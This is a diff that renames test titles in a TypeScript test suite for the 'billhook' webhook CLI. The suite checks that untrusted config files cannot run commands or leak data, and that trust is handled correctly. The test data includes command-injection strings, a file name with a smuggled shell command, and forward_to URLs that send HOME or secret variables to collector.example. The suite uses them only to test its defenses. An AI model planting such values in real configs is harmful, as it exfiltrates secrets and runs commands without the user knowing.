@@ -27,7 +27,7 @@ function run(...args: readonly string[]) {
 const refused = { code: 2, stderr: expect.stringContaining('BILLHOOK_CONFIG_UNTRUSTED') as string }
 const check = ['replay', 'paid.json', '--check', 'duplicate', '--settle', '60ms']
 
-test('a pull request that adds a command to billhook.yaml does not run it in CI', async () => {
+test('a pull request that adds a command to billhook.yaml cannot run it in CI', async () => {
   const handler = await startHandler({})
   for (const [key, spec] of [
     ['observe', '["cmd:touch ran; echo 1"]'],
@@ -49,7 +49,7 @@ test('a pull request that adds a command to billhook.yaml does not run it in CI'
   }
 })
 
-test('a planted file does not take webhooks or variables to another host', async () => {
+test('an untrusted file cannot send webhooks or variables to another host', async () => {
   for (const yaml of [
     'listen: { forward_to: ["http://collector.example/?h=${HOME}"] }',
     'sources: { stripe: { forward_to: ["http://127.0.0.1:9/${HOME}"] } }',
@@ -67,7 +67,7 @@ test('a planted file does not take webhooks or variables to another host', async
   expect(await run('replay', 'paid.json')).toMatchObject(refused)
 })
 
-test('the command that would trust a file names it as one word of a shell', async () => {
+test('the suggested trust command quotes the file name for a shell', async () => {
   const name = 'a b; touch ran.yaml'
   put(name, 'data_dir: /etc\n')
   for (const args of [['listen', '--port', '0'], ['doctor']]) {
@@ -78,7 +78,7 @@ test('the command that would trust a file names it as one word of a shell', asyn
   expect((await run('trust', name)).stdout).toContain(`  undo: billhook trust --revoke '${name}'\n`)
 })
 
-test('once trusted it runs, until it changes or is revoked; and only that file', async () => {
+test('a trusted file can run commands until it changes or is revoked; a copy of it cannot', async () => {
   const handler = await startHandler({})
   const yaml = `replay:\n  to: ${handler.url}\n  observe: ["cmd:touch ran; echo 1"]\n`
   put('billhook.yaml', yaml)
@@ -115,7 +115,7 @@ test('once trusted it runs, until it changes or is revoked; and only that file',
   expect(await run('trust', '--list')).toMatchObject({ code: 0, stdout: '', stderr: 'no file is trusted\n' })
 })
 
-test('--trust-config is for one run, and no variable stands for it', async () => {
+test('--trust-config applies to one run, and no variable replaces it', async () => {
   const target = await startTarget()
   put('billhook.yaml', `replay: { to: "${target.url}/\${CI}" }`)
   const ci = { ...env, CI: 'true', BILLHOOK_TRUST_CONFIG: '1', BILLHOOK_TRUST: '1' }
@@ -126,7 +126,7 @@ test('--trust-config is for one run, and no variable stands for it', async () =>
   expect(existsSync(join(env.HOME, '.config'))).toBe(false)
 })
 
-test('what does not need the untrusted value works without trust, and the command line takes its place', async () => {
+test('commands that do not use an untrusted value work, and command-line options replace it', async () => {
   const target = await startTarget()
   put(
     'billhook.yaml',
@@ -144,7 +144,7 @@ test('what does not need the untrusted value works without trust, and the comman
   expect(existsSync(join(cwd, 'ran'))).toBe(false)
 })
 
-test('doctor names what is not trusted, says what is next, and contacts nothing of it', async () => {
+test('doctor reports untrusted values with the next step, and does not contact untrusted hosts', async () => {
   const target = await startTarget()
   put(
     'billhook.yaml',
@@ -177,7 +177,7 @@ test('doctor names what is not trusted, says what is next, and contacts nothing 
   expect((await run('doctor', '--trust-config')).stdout).toMatch(/^ok {4}trust /m)
 })
 
-test('what is remembered is not overwritten when it cannot be read, and tells its next step', async () => {
+test('an unreadable trust.json is not overwritten and is reported with a next step', async () => {
   put('billhook.yaml', 'data_dir: ../x')
   mkdirSync(join(env.HOME, '.config', 'billhook'), { recursive: true })
   const file = join(env.HOME, '.config', 'billhook', 'trust.json')
@@ -202,17 +202,17 @@ test.each([
   [['trust', '--revoke'], 'there is no billhook.yaml in this directory'],
   [['trust', 'gone.yaml'], 'gone.yaml cannot be read'],
   [['trust', '--list', '--revoke'], '--list cannot be combined with FILE or --revoke'],
-])('billhook %j is told what is wrong', async (args, message) => {
+])('billhook %j is an error that says what is wrong', async (args, message) => {
   expect(await run(...args)).toMatchObject({ code: 2, stderr: expect.stringContaining(message) as string })
 })
 
-test('a file that asks for nothing is not remembered', async () => {
+test('a file that needs no trust is not recorded', async () => {
   put('billhook.yaml', 'listen: { port: 0, forward_to: ["http://127.0.0.1:${PORT:-3000}/"] }')
   expect(await run('trust')).toMatchObject({ code: 0, stdout: expect.stringContaining('asks for nothing') as string })
   expect(existsSync(join(env.HOME, '.config'))).toBe(false)
 })
 
-test('a repository that ships a trust.json is not the home folder of who has none, or a relative one', async () => {
+test('a trust.json in the repository is ignored if HOME is empty, relative or the repository itself', async () => {
   put('billhook.yaml', 'replay: { to: "http://127.0.0.1:9/", observe: ["cmd:touch ran; echo 1"] }')
   mkdirSync(join(cwd, '.config', 'billhook'), { recursive: true })
   const sha256 = createHash('sha256')
@@ -233,7 +233,7 @@ test('a repository that ships a trust.json is not the home folder of who has non
   })
 })
 
-test('nobody has to set a secret to look at a file that would send it away', async () => {
+test('a file that would send a variable away can be inspected without setting the variable', async () => {
   put(
     'billhook.yaml',
     'listen: { forward_to: ["https://collector.example/?k=${UNSET_SECRET}"] }\nreplay: { to: ' +
